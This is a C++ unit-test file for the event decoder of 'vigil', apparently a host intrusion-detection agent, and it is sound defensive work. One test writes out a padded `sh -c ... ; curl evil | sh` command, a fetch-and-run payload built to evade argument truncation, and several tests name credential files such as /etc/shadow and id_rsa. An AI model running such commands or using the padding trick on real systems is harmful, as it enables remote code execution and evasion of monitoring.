#include "vigil/agent/decoder.h"

#include <gtest/gtest.h>
#include <sys/sysmacros.h>

#include <map>

#include "util/records.h"
#include "util/test_util.h"

namespace vigil::agent {
namespace {

using test::bytes_of;

TEST(Decoder, DecodesExecWithArgsAndFlags) {
  auto rec = test::make_exec(1234, "/usr/bin/env", {"env", "true"});
  rec.flags = VIGIL_EXEC_SETUID | VIGIL_EXEC_EUID_CHANGED;
  rec.hdr.euid = 0;
  Decoder d(500);
  Event e;
  ASSERT_OK(d.decode(bytes_of(rec), e));
  EXPECT_EQ(e.type, EventType::kExec);
  EXPECT_EQ(e.pid, 1234U);
  EXPECT_EQ(e.ts_ns, 1'000'000'500U);
  EXPECT_EQ(e.comm, "bash");
  EXPECT_EQ(e.exe, "/usr/bin/env");
  EXPECT_EQ(e.args, (std::vector<std::string>{"env", "true"}));
  const auto& x = std::get<ExecData>(e.data);
  EXPECT_TRUE(x.setuid);
  EXPECT_TRUE(x.euid_changed);
  EXPECT_FALSE(x.setgid);
  EXPECT_TRUE(x.prev_known);
  EXPECT_EQ(x.argc, 2U);
  EXPECT_EQ(d.stats().decoded, 1U);
}

// NTP (or an operator) steps the wall clock after the agent started: the
// agent's periodic resync hands the decoder the new boot-to-wall offset, and
// events from then on carry the corrected unix time (not refused as a day
// ahead, not misdated).
TEST(Decoder, AResyncedWallClockOffsetDatesLaterEvents) {
  const auto rec = test::make_exec(1234, "/usr/bin/env", {"env"});
  Decoder d(500);
  Event e;
  ASSERT_OK(d.decode(bytes_of(rec), e));
  EXPECT_EQ(e.ts_ns, 1'000'000'500U);
  const std::int64_t stepped_back = -3'600'000'000'000;  // the clock was an hour ahead
  d.set_boot_to_unix_ns(500 + stepped_back + 4'000'000'000'000);
  ASSERT_OK(d.decode(bytes_of(rec), e));
  EXPECT_EQ(e.ts_ns, 1'000'000'000U + 500 + 400'000'000'000U);
  // The offset the agent resyncs to is the live one: now(REALTIME) - now(BOOTTIME).
  timespec rt{};
  timespec bt{};
  clock_gettime(CLOCK_REALTIME, &rt);
  clock_gettime(CLOCK_BOOTTIME, &bt);
  const auto expected = (rt.tv_sec - bt.tv_sec) * 1'000'000'000LL + (rt.tv_nsec - bt.tv_nsec);
  EXPECT_NEAR(static_cast<double>(boot_to_unix_offset_ns()), static_cast<double>(expected), 5e7);
}

TEST(Decoder, ArgsWithoutTrailingNulKeepLastPartial) {
  auto rec = test::make_exec(1, "/bin/echo", {});
  const char blob[] = {'e', 'c', 'h', 'o', '\0', 'h', 'i'};
  std::memcpy(rec.args, blob, sizeof(blob));
  rec.args_len = sizeof(blob);
  rec.flags = VIGIL_EXEC_ARGS_TRUNC;
  Decoder d;
  Event e;
  ASSERT_OK(d.decode(bytes_of(rec), e));
  EXPECT_EQ(e.args, (std::vector<std::string>{"echo", "hi"}));
  EXPECT_TRUE(std::get<ExecData>(e.data).args_truncated);
}

TEST(Decoder, UnterminatedStringsAreBounded) {
  auto rec = test::make_exec(1, "", {});
  std::memset(rec.filename, 'A', sizeof(rec.filename));
  std::memset(rec.hdr.comm, 'B', sizeof(rec.hdr.comm));
  Decoder d;
  Event e;
  ASSERT_OK(d.decode(bytes_of(rec), e));
  EXPECT_EQ(e.exe.size(), sizeof(rec.filename));
  EXPECT_EQ(e.comm.size(), sizeof(rec.hdr.comm));
}

TEST(Decoder, RejectsShortRecord) {
  auto rec = bytes_of(test::make_fork(1, 2));
  rec.resize(sizeof(vigil_hdr) - 1);
  Decoder d;
  Event e;
  auto r = d.decode(rec, e);
  ASSERT_FALSE(r);
  EXPECT_EQ(r.error().code, ErrorCode::kCorrupt);
  EXPECT_EQ(d.stats().faults[static_cast<int>(DecodeFault::kShort)], 1U);
}

TEST(Decoder, RejectsEmptyRecord) {
  Decoder d;
  Event e;
  EXPECT_FALSE(d.decode({}, e));
  EXPECT_EQ(d.stats().errors(), 1U);
}

TEST(Decoder, RejectsWrongAbiVersion) {
  auto rec = test::make_fork(1, 2);
  rec.hdr.abi_version = VIGIL_ABI_VERSION + 1;
  Decoder d;
  Event e;
  EXPECT_FALSE(d.decode(bytes_of(rec), e));
  EXPECT_EQ(d.stats().faults[static_cast<int>(DecodeFault::kBadVersion)], 1U);
}

TEST(Decoder, RejectsUnknownType) {
  for (std::uint16_t type :
       {std::uint16_t{0}, std::uint16_t{VIGIL_EV_MAX + 1}, std::uint16_t{0xFFFF}}) {
    auto rec = test::make_fork(1, 2);
    rec.hdr.type = type;
    Decoder d;
    Event e;
    EXPECT_FALSE(d.decode(bytes_of(rec), e)) << type;
    EXPECT_EQ(d.stats().faults[static_cast<int>(DecodeFault::kUnknownType)], 1U);
  }
}

TEST(Decoder, RejectsSizeLargerThanBuffer) {
  auto rec = test::make_exit(1, 0);
  rec.hdr.size = sizeof(rec) + 8;
  Decoder d;
  Event e;
  EXPECT_FALSE(d.decode(bytes_of(rec), e));
  EXPECT_EQ(d.stats().faults[static_cast<int>(DecodeFault::kSizeMismatch)], 1U);
}

TEST(Decoder, RejectsTypeWithWrongSize) {
  // A fork-sized record claiming to be an exec must not be read as one.
  auto rec = test::make_fork(1, 2);
  rec.hdr.type = VIGIL_EV_EXEC;
  Decoder d;
  Event e;
  EXPECT_FALSE(d.decode(bytes_of(rec), e));
  EXPECT_EQ(d.stats().faults[static_cast<int>(DecodeFault::kSizeMismatch)], 1U);
}

TEST(Decoder, RejectsArgsLenBeyondArray) {
  auto rec = test::make_exec(1, "/bin/true", {"true"});
  rec.args_len = VIGIL_ARGS_LEN + 1;
  Decoder d;
  Event e;
  EXPECT_FALSE(d.decode(bytes_of(rec), e));
  EXPECT_EQ(d.stats().faults[static_cast<int>(DecodeFault::kBadLength)], 1U);
}

TEST(Decoder, GoodRecordAfterBadOneStillDecodes) {
  Decoder d;
  Event e;
  std::vector<std::byte> junk(7, std::byte{0xFF});
  EXPECT_FALSE(d.decode(junk, e));
  ASSERT_OK(d.decode(bytes_of(test::make_exit(9, 3)), e));
  EXPECT_EQ(std::get<ExitData>(e.data).exit_code, 3);
  EXPECT_EQ(d.stats().decoded, 1U);
  EXPECT_EQ(d.stats().errors(), 1U);
}

TEST(Decoder, DecodesSetidPtraceKill) {
  Decoder d;
  Event e;
  vigil_setid s{};
  test::fill_hdr(s.hdr, VIGIL_EV_SETUID, sizeof(s), 10);
  s.syscall = VIGIL_SYS_SETRESUID;
  s.ret = 0;
  s.old_ids[0] = 1000;
  s.new_ids[0] = 0;
  ASSERT_OK(d.decode(bytes_of(s), e));
  EXPECT_EQ(e.type, EventType::kSetuid);
  EXPECT_EQ(std::get<SetidData>(e.data).old_ids[0], 1000U);
  EXPECT_EQ(setid_syscall_name(std::get<SetidData>(e.data).syscall), "setresuid");

  vigil_ptrace p{};
  test::fill_hdr(p.hdr, VIGIL_EV_PTRACE, sizeof(p), 11);
  p.request = 16;
  p.target_pid = 77;
  p.ret = -1;
  ASSERT_OK(d.decode(bytes_of(p), e));
  EXPECT_EQ(std::get<PtraceData>(e.data).target_pid, 77U);
  EXPECT_EQ(ptrace_request_name(std::get<PtraceData>(e.data).request), "PTRACE_ATTACH");

  vigil_kill k{};
  test::fill_hdr(k.hdr, VIGIL_EV_KILL, sizeof(k), 12);
  k.signal = 15;
  k.target_pid = 99;
  k.target_uid = 65534;
  std::memset(k.target_comm, 'x', sizeof(k.target_comm));  // unterminated
  ASSERT_OK(d.decode(bytes_of(k), e));
  EXPECT_EQ(std::get<KillData>(e.data).target_comm.size(), 16U);
  EXPECT_EQ(std::get<KillData>(e.data).target_uid, 65534U);
}

TEST(Decoder, DecodesMemoryFamilyRecords) {
  Decoder d;
  Event e;
  vigil_mem_prot m{};
  test::fill_hdr(m.hdr, VIGIL_EV_MEM_WX, sizeof(m), 20);
  m.addr = 0x7f0000001000;
  m.len = 4096;
  m.prot = 7;
  m.syscall = VIGIL_MEM_MMAP;
  m.anon = VIGIL_MAP_ANON;
  std::memset(m.file, 'f', sizeof(m.file));  // unterminated
  ASSERT_OK(d.decode(bytes_of(m), e));
  EXPECT_EQ(e.type, EventType::kWxMemory);
  EXPECT_EQ(std::get<MemProtData>(e.data).addr, 0x7f0000001000U);
  EXPECT_EQ(std::get<MemProtData>(e.data).file.size(), sizeof(m.file));
  EXPECT_EQ(prot_string(std::get<MemProtData>(e.data).prot), "rwx");

  m.hdr.type = VIGIL_EV_MEM_EXEC_ADDED;
  ASSERT_OK(d.decode(bytes_of(m), e));
  EXPECT_EQ(e.type, EventType::kExecAdded);

  vigil_fileless_exec f{};
  test::fill_hdr(f.hdr, VIGIL_EV_FILELESS_EXEC, sizeof(f), 21);
  std::strcpy(f.filename, "/dev/fd/3");
  std::strcpy(f.dname, "memfd:x");
  f.memfd = 1;
  ASSERT_OK(d.decode(bytes_of(f), e));
  EXPECT_TRUE(std::get<FilelessExecData>(e.data).memfd);
  EXPECT_EQ(std::get<FilelessExecData>(e.data).dname, "memfd:x");

  vigil_crash_storm c{};
  test::fill_hdr(c.hdr, VIGIL_EV_CRASH_STORM, sizeof(c), 22);
  c.count = 40;
  c.signal = 11;
  ASSERT_OK(d.decode(bytes_of(c), e));
  EXPECT_EQ(std::get<CrashStormData>(e.data).count, 40U);

  for (std::uint16_t type : {std::uint16_t{VIGIL_EV_MEMFD}, std::uint16_t{VIGIL_EV_INJECT},
                             std::uint16_t{VIGIL_EV_ALLOC_RATE}}) {
    // A record of the wrong size for its type is rejected, never read past.
    auto rec = test::make_exit(1, 0);  // 96 bytes: no memory record has that size
    rec.hdr.type = type;
    EXPECT_FALSE(d.decode(bytes_of(rec), e)) << type;
  }
}

TEST(Decoder, TypesInTheGapBetweenFamiliesAreUnknown) {
  Decoder d;
  Event e;
  auto rec = test::make_fork(1, 2);
  rec.hdr.type = 20;  // network range, not produced by this build
  EXPECT_FALSE(d.decode(bytes_of(rec), e));
  EXPECT_EQ(d.stats().faults[static_cast<int>(DecodeFault::kUnknownType)], 1U);
}

constexpr vigil_ns kContainerNs{.mnt = 4026532201,
                                .pid = 4026532204,
                                .net = 4026532206,
                                .user = 4026531837,
                                .uts = 4026532202,
                                .ipc = 4026532203,
                                .cgroup = 4026532205,
                                .ns_pid = 7,
                                .cap_eff = 0xa80425fbULL};

void expect_container_ns(const Namespaces& ns) {
  EXPECT_EQ(ns.mnt, 4026532201U);
  EXPECT_EQ(ns.pid, 4026532204U);
  EXPECT_EQ(ns.net, 4026532206U);
  EXPECT_EQ(ns.user, 4026531837U);
  EXPECT_EQ(ns.uts, 4026532202U);
  EXPECT_EQ(ns.ipc, 4026532203U);
  EXPECT_EQ(ns.cgroup, 4026532205U);
  EXPECT_EQ(ns.ns_pid, 7U);
  EXPECT_EQ(ns.cap_eff, 0xa80425fbULL);
}

TEST(Decoder, ExecAndForkCarryNamespaces) {
  Decoder d;
  Event e;
  auto x = test::make_exec(300, "/bin/sh", {"sh"});
  x.ns = kContainerNs;
  ASSERT_OK(d.decode(bytes_of(x), e));
  expect_container_ns(e.ns);
  EXPECT_TRUE(e.ns.known());

  auto f = test::make_fork(300, 301);
  f.ns = kContainerNs;  // the child's
  ASSERT_OK(d.decode(bytes_of(f), e));
  expect_container_ns(e.ns);

  // The classic tracepoint cannot reach the child: unknown.
  ASSERT_OK(d.decode(bytes_of(test::make_fork(300, 302)), e));
  EXPECT_FALSE(e.ns.known());
}

TEST(Decoder, EnrichmentOfAReusedEventIsReset) {
  Decoder d;
  Event e;
  auto x = test::make_exec(300, "/bin/sh", {"sh"});
  x.ns = kContainerNs;
  ASSERT_OK(d.decode(bytes_of(x), e));
  e.host_ns = false;
  e.container = std::make_shared<ContainerInfo>(ContainerInfo{.id = "abc"});
  ASSERT_OK(d.decode(bytes_of(test::make_exit(300, 0)), e));
  EXPECT_EQ(e.ns, Namespaces{}) << "exit carries no namespaces: the table fills them";
  EXPECT_TRUE(e.host_ns);
  EXPECT_EQ(e.container, nullptr);
}

TEST(Decoder, DecodesNsChange) {
  Decoder d;
  Event e;
  const auto rec =
      test::make_ns_change(300, VIGIL_SYS_SETNS, 0x00020000 /* CLONE_NEWNS */, kContainerNs, -1);
  ASSERT_OK(d.decode(bytes_of(rec), e));
  EXPECT_EQ(e.type, EventType::kNsChange);
  EXPECT_EQ(to_string(e.type), "ns_change");
  const auto& c = std::get<NsChangeData>(e.data);
  EXPECT_EQ(c.syscall, static_cast<std::uint32_t>(VIGIL_SYS_SETNS));
  EXPECT_EQ(c.ret, -1);
  EXPECT_EQ(c.flags, 0x00020000U);
  expect_container_ns(c.after);
  EXPECT_FALSE(c.before.known()) << "before comes from the process table";
  expect_container_ns(e.ns);

  auto bad = rec;
  bad.syscall = 99;
  EXPECT_FALSE(d.decode(bytes_of(bad), e));
  EXPECT_EQ(d.stats().faults[static_cast<int>(DecodeFault::kBadLength)], 1U);
}

TEST(Decoder, DecodesCgroupRecords) {
  Decoder d;
  Event e;
  auto mk = test::make_cgroup(40, VIGIL_CGROUP_MKDIR, 9876, 2, "/libpod_parent/libpod-0123abcd");
  ASSERT_OK(d.decode(bytes_of(mk), e));
  EXPECT_EQ(e.type, EventType::kCgroup);
  EXPECT_EQ(to_string(e.type), "cgroup");
  EXPECT_EQ(event_type_from_string("cgroup"), EventType::kCgroup);
  EXPECT_EQ(event_type_from_string("ns_change"), EventType::kNsChange);
  const auto& c = std::get<CgroupData>(e.data);
  EXPECT_FALSE(c.removed);
  EXPECT_EQ(c.id, 9876U);
  EXPECT_EQ(c.level, 2U);
  EXPECT_EQ(c.path, "/libpod_parent/libpod-0123abcd");

  auto rm = test::make_cgroup(40, VIGIL_CGROUP_RMDIR, 9876, 2, "/libpod_parent/libpod-0123abcd");
  std::memset(rm.path, 'p', sizeof(rm.path));  // unterminated: bounded
  ASSERT_OK(d.decode(bytes_of(rm), e));
  EXPECT_TRUE(std::get<CgroupData>(e.data).removed);
  EXPECT_EQ(std::get<CgroupData>(e.data).path.size(), sizeof(rm.path));

  auto bad = mk;
  bad.op = 3;
  EXPECT_FALSE(d.decode(bytes_of(bad), e));
  EXPECT_EQ(d.stats().faults[static_cast<int>(DecodeFault::kBadLength)], 1U);
}

TEST(Decoder, FileDevicesBecomeUserSpaceDevT) {
  auto rec = test::make_file(10, VIGIL_FILE_WRITE, "/etc/passwd");
  rec.dev = (259U << 20) | 3U;      // kernel dev_t: nvme0n1p3
  rec.root_dev = (0U << 20) | 52U;  // an overlay's anonymous device
  Decoder d;
  Event e;
  ASSERT_OK(d.decode(bytes_of(rec), e));
  const auto& f = std::get<FileData>(e.data);
  EXPECT_EQ(f.dev, makedev(259, 3));
  EXPECT_EQ(f.root_dev, makedev(0, 52));
  rec.dev = 0;  // not known stays 0
  ASSERT_OK(d.decode(bytes_of(rec), e));
  EXPECT_EQ(std::get<FileData>(e.data).dev, 0U);
}

TEST(Decoder, FileRecordPathsAreResolved) {
  Decoder d;
  Event e;
  vigil_file f{};
  test::fill_hdr(f.hdr, VIGIL_EV_FILE, sizeof(f), 30);
  f.op = VIGIL_FILE_CREATE;
  f.base = VIGIL_BASE_FILE;
  std::strcpy(f.path, "x.conf");
  std::strcpy(f.comps[0], "x.conf");
  std::strcpy(f.comps[1], "cron.d");
  std::strcpy(f.comps[2], "etc");
  f.ncomps = 3;
  ASSERT_OK(d.decode(bytes_of(f), e));
  EXPECT_EQ(std::get<FileData>(e.data).path, "/etc/cron.d/x.conf");
  EXPECT_EQ(std::get<FileData>(e.data).arg_path, "x.conf");

  // Relative to a directory: comps name the directory.
  f.op = VIGIL_FILE_RENAME;
  f.base = VIGIL_BASE_DIR;
  std::strcpy(f.path, "./a");
  std::strcpy(f.new_path, "b");
  f.ncomps = 2;
  std::strcpy(f.comps[0], "cron.d");
  std::strcpy(f.comps[1], "etc");
  f.new_base = VIGIL_BASE_DIR;  // the target has its own base (here the same directory)
  f.new_ncomps = 2;
  std::strcpy(f.new_comps[0], "cron.d");
  std::strcpy(f.new_comps[1], "etc");
  ASSERT_OK(d.decode(bytes_of(f), e));
  EXPECT_EQ(std::get<FileData>(e.data).path, "/etc/cron.d/a");
  EXPECT_EQ(std::get<FileData>(e.data).new_path, "/etc/cron.d/b");

  f.base = VIGIL_BASE_ABSOLUTE;
  std::strcpy(f.path, "/etc/passwd");
  ASSERT_OK(d.decode(bytes_of(f), e));
  EXPECT_EQ(std::get<FileData>(e.data).path, "/etc/passwd");

  f.ncomps = VIGIL_FILE_COMPS + 2;  // beyond the "truncated" marker
  EXPECT_FALSE(d.decode(bytes_of(f), e));
  f.ncomps = 0;
  f.base = 7;
  EXPECT_FALSE(d.decode(bytes_of(f), e));
  EXPECT_EQ(d.stats().faults[static_cast<int>(DecodeFault::kBadLength)], 2U);
}

TEST(Decoder, FileRecordSidesResolveAgainstTheirOwnBase) {
  Decoder d;
  Event e;
  vigil_file f{};
  test::fill_hdr(f.hdr, VIGIL_EV_FILE, sizeof(f), 30);
  // mv /tmp/x shadow, run in /etc: the source is absolute, the target relative
  // to the cwd (its own base), not to the source's.
  f.op = VIGIL_FILE_RENAME;
  f.base = VIGIL_BASE_ABSOLUTE;
  std::strcpy(f.path, "/tmp/x");
  f.new_base = VIGIL_BASE_DIR;
  std::strcpy(f.new_path, "shadow");
  std::strcpy(f.new_comps[0], "etc");
  f.new_ncomps = 1;
  ASSERT_OK(d.decode(bytes_of(f), e));
  EXPECT_EQ(std::get<FileData>(e.data).path, "/tmp/x");
  EXPECT_EQ(std::get<FileData>(e.data).new_path, "/etc/shadow");

  // Lexical forms that dodge a prefix match are normalised; arg_path keeps the original.
  std::strcpy(f.path, "//tmp/./a/../x");
  std::strcpy(f.new_path, "../etc/./passwd");
  std::strcpy(f.new_comps[0], "tmp");
  ASSERT_OK(d.decode(bytes_of(f), e));
  EXPECT_EQ(std::get<FileData>(e.data).path, "/tmp/x");
  EXPECT_EQ(std::get<FileData>(e.data).arg_path, "//tmp/./a/../x");
  EXPECT_EQ(std::get<FileData>(e.data).new_path, "/etc/passwd");

  // A symlink's target is a string: kept as passed, even when relative.
  f.op = VIGIL_FILE_SYMLINK;
  f.base = VIGIL_BASE_VERBATIM;
  std::strcpy(f.path, "../../etc/shadow");
  std::strcpy(f.new_path, "/etc/cron.d/link");
  f.new_base = VIGIL_BASE_ABSOLUTE;
  ASSERT_OK(d.decode(bytes_of(f), e));
  EXPECT_EQ(std::get<FileData>(e.data).path, "../../etc/shadow");
  EXPECT_EQ(std::get<FileData>(e.data).new_path, "/etc/cron.d/link");

  // linkat(fd, "", ..., AT_EMPTY_PATH): the file is the fd's (an O_TMPFILE).
  f.op = VIGIL_FILE_LINK;
  f.base = VIGIL_BASE_FILE;
  f.path[0] = '\0';
  std::strcpy(f.comps[0], "#1234");
  std::strcpy(f.comps[1], "etc");
  f.ncomps = 2;
  ASSERT_OK(d.decode(bytes_of(f), e));
  EXPECT_EQ(std::get<FileData>(e.data).path, "/etc/#1234");

  f.new_base = VIGIL_BASE_VERBATIM + 1;
  EXPECT_FALSE(d.decode(bytes_of(f), e));
  f.new_base = VIGIL_BASE_DIR;
  f.new_ncomps = VIGIL_FILE_COMPS + 2;
  EXPECT_FALSE(d.decode(bytes_of(f), e));
  EXPECT_EQ(d.stats().faults[static_cast<int>(DecodeFault::kBadLength)], 2U);
}

TEST(Decoder, NamesCutByTheKernelAreCompletedFromTheCallersPath) {
  Decoder d;
  Event e;
  vigil_file f{};
  test::fill_hdr(f.hdr, VIGIL_EV_FILE, sizeof(f), 30);
  f.op = VIGIL_FILE_CREATE;
  f.base = VIGIL_BASE_FILE;
  const std::string long_name = "a-configuration-file-with-a-long-name.conf";
  std::strncpy(f.comps[0], long_name.c_str(), VIGIL_FILE_COMP_LEN - 1);  // as the probe cuts it
  std::strcpy(f.comps[1], "cron.d");
  std::strcpy(f.comps[2], "etc");
  f.ncomps = 3;
  std::strcpy(f.path, long_name.c_str());  // openat(dirfd of /etc/cron.d, long_name)
  ASSERT_OK(d.decode(bytes_of(f), e));
  EXPECT_EQ(std::get<FileData>(e.data).path, "/etc/cron.d/" + long_name);
  // A caller's path that names another file (through a symlink) does not complete it.
  std::strcpy(f.path, ("/tmp/" + long_name.substr(0, 40)).c_str());
  ASSERT_OK(d.decode(bytes_of(f), e));
  EXPECT_EQ(std::get<FileData>(e.data).path,
            "/etc/cron.d/" + long_name.substr(0, VIGIL_FILE_COMP_LEN - 1));
}

TEST(Decoder, PaddedArgvKeepsItsHeadAndItsTail) {
  auto rec = test::make_exec(1, "/bin/sh", {});
  // What the probe captures for `sh -c <pad...> ; curl evil | sh`: the first
  // VIGIL_ARGS_HEAD bytes, then argv's last bytes at args_tail.
  std::string head = std::string("sh") + '\0' + "-c" + '\0';
  head.append(VIGIL_ARGS_HEAD - head.size(), 'p');
  std::string tail(VIGIL_ARGS_LEN - VIGIL_ARGS_HEAD, 'p');
  const std::string end = std::string(";curl evil|sh") + '\0' + "telltale" + '\0';
  tail.replace(tail.size() - end.size(), end.size(), end);
  std::memcpy(rec.args, head.data(), head.size());
  std::memcpy(rec.args + VIGIL_ARGS_HEAD, tail.data(), tail.size());
  rec.args_len = VIGIL_ARGS_LEN;
  rec.args_tail = VIGIL_ARGS_HEAD;
  rec.argc = 3;
  rec.flags = VIGIL_EXEC_ARGS_TRUNC;
  Decoder d;
  Event e;
  ASSERT_OK(d.decode(bytes_of(rec), e));
  ASSERT_EQ(e.args.size(), 5U);
  EXPECT_EQ(e.args[0], "sh");
  EXPECT_EQ(e.args[1], "-c");
  EXPECT_EQ(e.args[2], std::string(VIGIL_ARGS_HEAD - 6, 'p')) << "the head's cut argument";
  EXPECT_TRUE(e.args[3].ends_with(";curl evil|sh")) << "the tail's cut argument";
  EXPECT_EQ(e.args[4], "telltale");
  const auto& x = std::get<ExecData>(e.data);
  EXPECT_TRUE(x.args_truncated);
  EXPECT_EQ(x.argc, 3U) << "the kernel's count, not what was captured";

  rec.args_tail = VIGIL_ARGS_LEN + 1;  // beyond args_len
  EXPECT_FALSE(d.decode(bytes_of(rec), e));
  EXPECT_EQ(d.stats().faults[static_cast<int>(DecodeFault::kBadLength)], 1U);
}

TEST(EscapeName, ValidUtf8IsKeptAndOtherBytesBecomeHex) {
  EXPECT_FALSE(needs_escape("/usr/bin/caf\xC3\xA9"));  // "café": valid UTF-8
  EXPECT_EQ(escape_name("/usr/bin/caf\xC3\xA9"), "/usr/bin/caf\xC3\xA9");
  EXPECT_EQ(escape_name("C:\\dir\\n"), "C:\\dir\\n") << "a backslash alone is kept";
  EXPECT_EQ(escape_name("/tmp/a\xFF"
                        "b"),
            "/tmp/a\\xFFb");
  // Once a string is escaped, its backslashes are doubled: no confusion with \xHH.
  EXPECT_EQ(escape_name("\xFF\\"), "\\xFF\\\\");
  // A literal "\x41" is escaped too, else it would read as the byte 0x41.
  EXPECT_EQ(escape_name("printf '\\x41'"), "printf '\\\\x41'");
  // Invalid sequences: overlong, surrogate, truncated, beyond U+10FFFF.
  EXPECT_EQ(escape_name("\xC0\xAF"), "\\xC0\\xAF");
  EXPECT_EQ(escape_name("\xED\xA0\x80"), "\\xED\\xA0\\x80");
  EXPECT_EQ(escape_name("ab\xE2\x82"), "ab\\xE2\\x82");
  EXPECT_EQ(escape_name("\xF4\x90\x80\x80"), "\\xF4\\x90\\x80\\x80");
  EXPECT_EQ(escape_name("\xE2\x82\xAC\xFF"), "\xE2\x82\xAC\\xFF") << "valid parts stay";
}

TEST(EscapeName, IsLosslessAndAlwaysValidUtf8) {
  // Every string of up to three bytes over an alphabet that covers the corner
  // cases round-trips, and no two inputs share an escaped form.
  const std::string alphabet = {'a',
                                '\\',
                                'x',
                                'F',
                                static_cast<char>(0xFF),
                                static_cast<char>(0xC3),
                                static_cast<char>(0xA9)};
  std::map<std::string, std::string> seen;
  std::vector<std::string> inputs = {""};
  for (int len = 0; len < 3; ++len) {
    const auto n = inputs.size();
    for (std::size_t i = 0; i < n; ++i) {
      for (char c : alphabet) inputs.push_back(inputs[i] + c);
    }
  }
  for (const auto& raw : inputs) {
    const std::string esc = escape_name(raw);
    // Valid UTF-8: no 0xFF byte, and 0xC3 0xA9 ("é") only as a pair.
    for (std::size_t i = 0; i < esc.size(); ++i) {
      const auto c = static_cast<unsigned char>(esc[i]);
      EXPECT_NE(c, 0xFF) << esc;
      if (c == 0xC3) {
        EXPECT_TRUE(i + 1 < esc.size() && esc[i + 1] == '\xA9') << esc;
      }
      if (c == 0xA9) {
        EXPECT_TRUE(i > 0 && esc[i - 1] == '\xC3') << esc;
      }
    }
    const auto back = unescape_name(esc);
    ASSERT_TRUE(back.has_value()) << esc;
    EXPECT_EQ(*back, raw);
    const auto [it, fresh] = seen.emplace(esc, raw);
    EXPECT_EQ(it->second, raw) << "'" << esc << "' from two inputs";
  }
}

TEST(Decoder, NonUtf8NamesAreEscapedOnceWhereEventsAreBuilt) {
  auto rec = test::make_exec(1, "/tmp/ev\xFFil", {"/tmp/ev\xFFil", "--x=\xFE"});
  std::strcpy(rec.hdr.comm, "ev\xFFil");
  Decoder d;
  Event e;
  ASSERT_OK(d.decode(bytes_of(rec), e));
  EXPECT_EQ(e.exe, "/tmp/ev\\xFFil");
  EXPECT_EQ(std::get<ExecData>(e.data).filename, "/tmp/ev\\xFFil");
  EXPECT_EQ(e.comm, "ev\\xFFil");
  EXPECT_EQ(e.args, (std::vector<std::string>{"/tmp/ev\\xFFil", "--x=\\xFE"}));

  vigil_file f{};
  test::fill_hdr(f.hdr, VIGIL_EV_FILE, sizeof(f), 30);
  f.op = VIGIL_FILE_READ_SENSITIVE;
  f.base = VIGIL_BASE_FILE;
  std::strcpy(f.path, "k\xFF/id_rsa");
  std::strcpy(f.comps[0], "id_rsa");
  std::strcpy(f.comps[1], "k\xFF");
  std::strcpy(f.comps[2], "tmp");
  f.ncomps = 3;
  ASSERT_OK(d.decode(bytes_of(f), e));
  EXPECT_EQ(std::get<FileData>(e.data).path, "/tmp/k\\xFF/id_rsa");
  EXPECT_EQ(std::get<FileData>(e.data).arg_path, "k\\xFF/id_rsa");
}

TEST(Decoder, SocketRecordsBecomeOneTypePerOperation) {
  Decoder d;
  Event e;
  vigil_sock s{};
  test::fill_hdr(s.hdr, VIGIL_EV_SOCK, sizeof(s), 40);
  s.op = VIGIL_SOCK_ACCEPT;
  s.family = 2;
  s.proto = 6;
  s.lport = 8080;
  s.rport = 51000;
  const std::uint8_t lo[4] = {127, 0, 0, 1};
  std::memcpy(s.laddr, lo, 4);
  std::memcpy(s.raddr, lo, 4);
  ASSERT_OK(d.decode(bytes_of(s), e));
  EXPECT_EQ(e.type, EventType::kAccept);
  EXPECT_EQ(std::get<SockData>(e.data).laddr, "127.0.0.1");
  EXPECT_EQ(std::get<SockData>(e.data).lport, 8080);
  s.op = VIGIL_SOCK_UDP_SEND;
  s.family = 10;
  std::memset(s.raddr, 0, 16);
  s.raddr[15] = 1;
  ASSERT_OK(d.decode(bytes_of(s), e));
  EXPECT_EQ(e.type, EventType::kUdpSend);
  EXPECT_EQ(std::get<SockData>(e.data).raddr, "::1");
  s.op = 99;
  EXPECT_FALSE(d.decode(bytes_of(s), e)) << "unknown socket operation";
  s.op = 0;
  EXPECT_FALSE(d.decode(bytes_of(s), e));
}

TEST(Decoder, NetSummaryEstimatesDistinctPorts) {
  Decoder d;
  Event e;
  vigil_net_summary n{};
  n.hdr.type = VIGIL_EV_NET_SUMMARY;
  n.hdr.abi_version = VIGIL_ABI_VERSION;
  n.hdr.size = sizeof(n);
  n.reason = VIGIL_NET_SCAN | VIGIL_NET_SYN_FLOOD;
  n.family = 2;
  const std::uint8_t src[4] = {10, 200, 1, 2};
  std::memcpy(n.src, src, 4);
  n.dport_bits = 454;  // what 600 random ports set in 1024 bits, on average
  ASSERT_OK(d.decode(bytes_of(n), e));
  const auto& s = std::get<NetSummaryData>(e.data);
  EXPECT_EQ(s.src, "10.200.1.2");
  EXPECT_NEAR(s.dports, 600, 10);
  EXPECT_EQ(e.pid, 0U);
  EXPECT_EQ(net_reasons(s.reasons), "scan,syn_flood");
  EXPECT_EQ(linear_count(0, 1024), 0U);
  EXPECT_EQ(linear_count(1024, 1024), 8192U) << "saturated: a floor";
}

TEST(SplitArgs, HandlesEmptyAndConsecutiveNuls) {
  ArgList out;
  split_args({}, out);
  EXPECT_TRUE(out.empty());
  const char blob[] = {'a', '\0', '\0', 'b', '\0'};
  split_args(std::span<const char>(blob, sizeof(blob)), out);
  EXPECT_EQ(out, (std::vector<std::string>{"a", "", "b"}));
}

TEST(ArgList, ShrinkingKeepsElementsForTheNextRefill) {
  ArgList a = {"/usr/local/bin/a-long-program-name", "--a-long-option=value"};
  const auto* buffer = a[0].data();
  a.clear();
  EXPECT_TRUE(a.empty());
  EXPECT_EQ(a.begin(), a.end());
  a.push_back("/usr/local/bin/another-long-name");
  EXPECT_EQ(a[0].data(), buffer) << "the element's buffer is reused";
  EXPECT_EQ(a, (std::vector<std::string>{"/usr/local/bin/another-long-name"}));
  ArgList b;
  b = a;
  EXPECT_EQ(b, a);
  b = {"x", "y", "z"};
  EXPECT_EQ(b.size(), 3U);
  EXPECT_FALSE(b == a);
  const std::span<const std::string> s = b;
  EXPECT_EQ(s.back(), "z");
}

}  // namespace
}  // namespace vigil::agent
